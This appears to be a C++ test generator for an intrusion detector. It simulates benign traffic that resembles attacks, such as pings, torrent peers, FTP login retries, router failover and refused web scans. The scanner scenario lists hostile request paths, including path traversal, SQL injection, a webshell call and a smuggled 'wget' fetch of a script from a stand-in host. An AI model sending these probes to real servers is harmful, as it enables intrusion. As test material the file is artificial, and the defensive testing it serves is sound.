// What looks like an attack of another sort than a flood, and is none.
#include "dns.h"
#include "flood.h"
#include "ordinary.h"
#include "web.h"

namespace evaluate {
namespace {

// ---------------------------------------------------------------------------------------- many hosts are
// asked

// A program of ours watches many hosts, and all of them answer.
void monitoring(Scene& scene) {
  Random random = scene.fork("monitoring");
  const Stretch s = draw_stretch(scene, random, 20, 500);
  const std::uint64_t hosts = random.between(4, 60);
  for (std::uint64_t i = 0; i < hosts; ++i) {
    Host& there = random.percent(60) ? scene.neighbour(random) : scene.outside(random);
    scene.world.clock.play_at(
        s.begin + random.between(0ms, 900ms),
        pings(scene, *scene.own, there, std::max<Duration>(s.gap * static_cast<int>(2 * hosts), 500ms), s.end,
              random.fork(std::to_string(i))));
  }
  play_around(scene, s, "answered");
}

// A page with a hundred parts from as many servers.
Task open_page(Scene& scene, std::uint64_t parts, Random random) {
  for (std::uint64_t i = 0; i < parts; ++i) {
    Random own = random.fork(std::to_string(i));
    Host& server = scene.outside(own);
    const std::string name = any_name(own);
    scene.world.play(lookup(scene, *scene.own, name, 1, address_bytes(server.address), own));
    const TlsTalk talk{.server_name = name,
                       .rounds = static_cast<int>(own.between(1, 4)),
                       .asked = 600,
                       .answered = log_count(own, 300, 20000),
                       .think = 90ms};
    scene.world.play(tls_talk(scene, *scene.own, server, 443, talk, own));
    const Duration pause = exponential(random, 40ms);
    co_await scene.world.pause(pause);
  }
}

void browsing(Scene& scene) {
  Random random = scene.fork("browsing");
  const Stretch s = draw_stretch(scene, random, 200, 2000);
  scene.world.clock.play_at(
      s.begin, open_page(scene, std::min<std::uint64_t>(s.frames / 30 + 10, 250), random.fork("p")));
  scene.end = std::max(scene.end, s.begin + 6s);
  play_around(scene, s, "acknowledged");
}

// A file exchange tries peers that have long gone.
Task try_peer(Scene& scene, Host& peer, std::uint16_t port, Random random) {
  Connection c(scene.world, *scene.own, peer, port, round_trip(peer, random));
  if (random.percent(45)) {
    c.knock();  // nobody is there any more
    co_return;
  }
  co_await c.open();
  co_await c.send(Side::client,
                  Writer().u8(19).text("BitTorrent protocol").zeros(8).bytes(random.bytes(40)).take());
  co_await c.send(Side::server,
                  Writer().u8(19).text("BitTorrent protocol").zeros(8).bytes(random.bytes(40)).take());
  for (std::uint64_t left = random.between(0, 12); left > 0; --left) {
    co_await c.send(Side::client, Writer().u32(13).u8(6).bytes(random.bytes(12)).take());
    co_await c.send(Side::server, random.bytes(random.between(2000, 16000)));
  }
}

Task try_peers(Scene& scene, std::uint64_t count, Duration mean, Random random) {
  for (std::uint64_t i = 0; i < count; ++i) {
    Random own = random.fork(std::to_string(i));
    const auto port = static_cast<std::uint16_t>(own.percent(30) ? 6881 : own.between(1025, 65000));
    scene.world.play(try_peer(scene, scene.outside(own), port, own));
    const Duration pause = exponential(random, mean);
    co_await scene.world.pause(pause);
  }
}

void torrent_peers(Scene& scene) {
  Random random = scene.fork("peers");
  const Stretch s = draw_stretch(scene, random, 100, 2000);
  const std::uint64_t count = log_count(random, 20, 200);
  scene.world.clock.play_at(s.begin,
                            try_peers(scene, count, log_time(random, 20ms, 500ms), random.fork("p")));
  play_around(scene, s, "acknowledged");
}

// ---------------------------------------------------------------------------------------- names

// A mail server asks lists of bad senders, a virus scanner asks for checksums: names that nobody could read.
Task reputation(Scene& scene, bool checksums, std::uint64_t count, Duration mean, Random random) {
  const std::string zone = (checksums ? "files." : "bl.") + any_name(random);
  for (std::uint64_t i = 0; i < count; ++i) {
    const Address sender = any_address(random);
    const auto& o = sender.octets;
    const std::string reversed = std::to_string(o[3]) + "." + std::to_string(o[2]) + "." +
                                 std::to_string(o[1]) + "." + std::to_string(o[0]);
    const Question question{(checksums ? hex_digits(random, 32) : reversed) + "." + zone, 1};
    const std::uint16_t id = random.u16(), port = scene.own->next_port();
    send_udp(scene.world, *scene.own, port, *scene.resolver, 53, dns_query(id, question));
    const Duration away = log_time(random, 500us, 60ms);
    co_await scene.world.pause(away);
    std::vector<Bytes> answers;
    if (random.percent(30)) answers.push_back(Bytes{127, 0, 0, 2});
    send_udp(scene.world, *scene.resolver, 53, *scene.own, port, dns_answer(id, question, answers));
    const Duration pause = exponential(random, mean);
    co_await scene.world.pause(pause);
  }
}

void lists_of_bad_senders(Scene& scene) {
  Random random = scene.fork("lists");
  const Stretch s = draw_stretch(scene, random, 5, 200);
  const std::uint64_t count = log_count(random, 20, 400);
  scene.world.clock.play_at(s.begin,
                            reputation(scene, random.percent(50), count, s.gap * 2, random.fork("r")));
  play_around(scene, s, "answered");
}

// ---------------------------------------------------------------------------------------- mail and logins

Task mails(Scene& scene, std::uint64_t count, Duration mean, Random random) {
  std::vector<Host*> partners;
  for (int i = 0; i < 12; ++i) partners.push_back(&scene.outside(random));
  for (std::uint64_t i = 0; i < count; ++i) {
    Random own = random.fork(std::to_string(i));
    Host& far = *partners[own.below(partners.size())];
    const bool in = own.percent(60);
    scene.world.play(mail_delivery(scene, in ? far : *scene.own, in ? *scene.own : far, own));
    const Duration pause = exponential(random, mean);
    co_await scene.world.pause(pause);
  }
}

void mail_server(Scene& scene) {
  Random random = scene.fork("mail");
  const Stretch s = draw_stretch(scene, random, 20, 400);
  scene.world.clock.play_at(s.begin, mails(scene, log_count(random, 6, 60), s.gap * 25, random.fork("m")));
  play_around(scene, s, "acknowledged");
}

// Somebody mistypes his password, and then does not.
Task log_in(Scene& scene, Host& client, Random random) {
  Connection c(scene.world, client, *scene.own, 21, round_trip(client, random));
  const std::string name = any_word(random);
  co_await c.open();
  co_await c.send(Side::server, to_bytes("220 (vsFTPd 3.0.3)\r\n"));
  for (std::uint64_t left = random.between(1, 3); left > 0; --left) {
    co_await c.send(Side::client, to_bytes("USER " + name + "\r\n"));
    co_await c.send(Side::server, to_bytes("331 Please specify the password.\r\n"));
    const Duration types = log_time(random, 300ms, 5s);
    co_await scene.world.pause(types);
    co_await c.send(Side::client, to_bytes("PASS " + letters(random, 9) + "\r\n"));
    const std::string verdict = left == 1 ? "230 Login successful.\r\n" : "530 Login incorrect.\r\n";
    co_await c.send(Side::server, to_bytes(verdict));
  }
  co_await c.send(Side::client, to_bytes("QUIT\r\n"));
  co_await c.close(Side::server);
}

void mistyped(Scene& scene) {
  Random random = scene.fork("mistyped");
  const Stretch s = draw_stretch(scene, random, 20, 300);
  for (std::uint64_t left = random.between(1, 5); left > 0; --left)
    scene.world.clock.play_at(s.begin + random.between(0s, 3s),
                              log_in(scene, scene.outside(random), random.fork(std::to_string(left))));
  scene.end = std::max(scene.end, s.begin + 12s);
  play_around(scene, s, "let in");
}

// ---------------------------------------------------------------------------------------- a local network

Bytes vrrp(std::uint8_t priority, const Address& shared) {
  Bytes out = Writer().u8(0x31).u8(51).u8(priority).u8(1).u16(100).u16(0).bytes(shared.view()).take();
  return out;
}

// Two routers share an address; the second takes it over once.
Task failover(Scene& scene, Host& first, Host& second, Address shared, Time when, Time end) {
  Host& group = scene.group("224.0.0.18");
  Host virtual_one = first;
  virtual_one.address = shared;
  bool announced = false;
  while (scene.now() < end) {
    Host& active = scene.now() < when ? first : second;
    Host from = active;
    from.ttl = 255;
    send_ip(scene.world, from, group, 112, vrrp(scene.now() < when ? 200 : 100, shared));
    if (scene.now() >= when && !announced) {
      announced = true;
      for (int i = 0; i < 3; ++i) {
        const Frame frame{.from = second.mac,
                          .to = broadcast_mac,
                          .type = ether_type::arp,
                          .packet = arp_packet(ArpOperation::request, second.mac, shared, {}, shared)};
        scene.tap.hear(scene.now(), frame, {});
      }
    }
    co_await scene.world.pause(1s);
  }
}

void takeover(Scene& scene) {
  Random random = scene.fork("takeover");
  const Stretch s = draw_stretch(scene, random, 5, 100);
  Address shared = scene.own->address;
  shared.octets[3] = 253;
  const Time when = s.begin + (s.end - s.begin) / 2;
  scene.world.clock.play_at(s.begin, failover(scene, scene.neighbour(random, 44), scene.neighbour(random, 45),
                                              shared, when, s.end));
  play_around(scene, s, "announced once");
}

// ---------------------------------------------------------------------------------------- strangers at the
// web server

// A program looks for pages with known faults; none of them is here.
Task look_for_faults(Scene& scene, Host& client, std::uint64_t count, Duration mean, Random random) {
  static const std::vector<std::string> paths = {"/.env",
                                                 "/wp-login.php",
                                                 "/phpmyadmin/",
                                                 "/cgi-bin/.%2e/.%2e/bin/sh",
                                                 "/../../etc/passwd",
                                                 "/admin.php",
                                                 "/index.php?id=1%27%20or%201=1--",
                                                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                                 "/boaform/admin/formLogin",
                                                 "/?q=;wget+http://198.51.100.9/x.sh",
                                                 "/shell.php?cmd=id",
                                                 "/solr/admin/info/system",
                                                 "/webdav/",
                                                 "/config.php.bak"};
  for (std::uint64_t i = 0; i < count; ++i) {
    Connection c(scene.world, client, *scene.own, scene.site.web_port, round_trip(client, random));
    co_await c.open();
    Request request{.target = random.percent(70) ? pick(random, paths) : "/" + any_word(random) + ".php",
                    .host = scene.own->address.text(),
                    .agent = "Mozilla/5.0 zgrab/0.x"};
    Bytes asked = bytes_of(request, random);
    co_await c.send(Side::client, std::move(asked), true);
    Answer refusal{.status = random.percent(85) ? 404 : 403, .body = page(random, 200), .keep_alive = false};
    Bytes answer = bytes_of(scene, refusal, random);
    co_await c.send(Side::server, std::move(answer));
    co_await c.close(Side::server);
    const Duration pause = exponential(random, mean);
    co_await scene.world.pause(pause);
  }
}

void fault_seeker(Scene& scene) {
  Random random = scene.fork("faults");
  const Stretch s = draw_stretch(scene, random, 30, 400);
  scene.record.tolerated = {"web-scan", "webshell-order"};
  scene.world.clock.play_at(s.begin, look_for_faults(scene, scene.outside(random), log_count(random, 10, 200),
                                                     s.gap * 9, random.fork("f")));
  play_around(scene, s, "refused");
}

// ---------------------------------------------------------------------------------------- even pace

// A program that looks for news, on an open connection, by the clock.
Task keeps_in_touch(Scene& scene, Host& server, Duration every, Time end, Random random) {
  Connection c(scene.world, *scene.own, server, 443, round_trip(server, random));
  Bytes hello = client_hello(random, any_name(random));
  co_await c.open();
  co_await c.send(Side::client, std::move(hello), true);
  co_await c.send(Side::server, server_hello(random, 2400), true);
  co_await c.send(Side::client, tls_record(random, 60));
  while (scene.now() < end) {
    co_await c.send(Side::client, tls_record(random, 40), true);
    co_await c.send(Side::server, tls_record(random, random.percent(85) ? 40 : random.between(100, 4000)));
    co_await scene.world.pause(every);
  }
}

void even_pace(Scene& scene) {
  Random random = scene.fork("pace");
  const Duration every = pick<Duration>(random, {5s, 15s, 20s, 30s, 60s});
  const Stretch s{.frames = 600,
                  .rate = 10,
                  .begin = scene.begin + log_time(random, 10ms, 5s),
                  .end = scene.begin + every * static_cast<int>(random.between(10, 60)),
                  .gap = 100ms};
  scene.end = s.end;
  for (std::uint64_t left = random.between(1, 4); left > 0; --left)
    scene.world.clock.play_at(s.begin, keeps_in_touch(scene, scene.outside(random), every, s.end,
                                                      random.fork(std::to_string(left))));
  play_around(scene, s, "on an open connection");
}

// Frames larger than any line carries: the network card cuts them up after the tap.
void offloaded(Scene& scene) {
  Random random = scene.fork("offload");
  const Stretch s = draw_stretch(scene, random, 200, 4000);
  Host& there = scene.outside(random);
  scene.world.clock.play_at(s.begin, [](Scene& sc, Host& far, Stretch st, Random own) -> Task {
    Connection c(sc.world, *sc.own, far, 443, round_trip(far, own));
    Bytes hello = client_hello(own, any_name(own));
    c.gap = st.gap;
    co_await c.open();
    co_await c.send(Side::client, std::move(hello), true);
    co_await c.send(Side::server, server_hello(own, 2400), true);
    c.largest = 1448 * own.between(4, 43);
    c.burst = 4;
    for (std::uint64_t left = std::min<std::uint64_t>(st.frames / 40 + 1, 60); left > 0; --left) {
      co_await c.send(Side::client, tls_record(own, own.between(100000, 600000)));
    }
    co_await c.close(Side::client);
  }(scene, there, s, random.fork("o")));
  play_around(scene, s, "acknowledged");
}

constexpr Needs two_ways = {.whole_frames = true};

}  // namespace

std::vector<Variant> benign_lookalike_variants() {
  return {
      {"monitoring", 10, two_ways, monitoring},
      {"browsing", 12, two_ways, browsing},
      {"torrent-peers", 10, two_ways, torrent_peers},
      {"bad-sender-lists", 10, two_ways, lists_of_bad_senders},
      {"mail-server", 10, two_ways, mail_server},
      {"mistyped", 8, two_ways, mistyped},
      {"takeover", 8, {.ethernet = true, .whole_frames = true}, takeover},
      {"fault-seeker", 12, two_ways, fault_seeker},
      {"even-pace", 10, two_ways, even_pace},
      {"offloaded", 10, two_ways, offloaded},
  };
}

}  // namespace evaluate
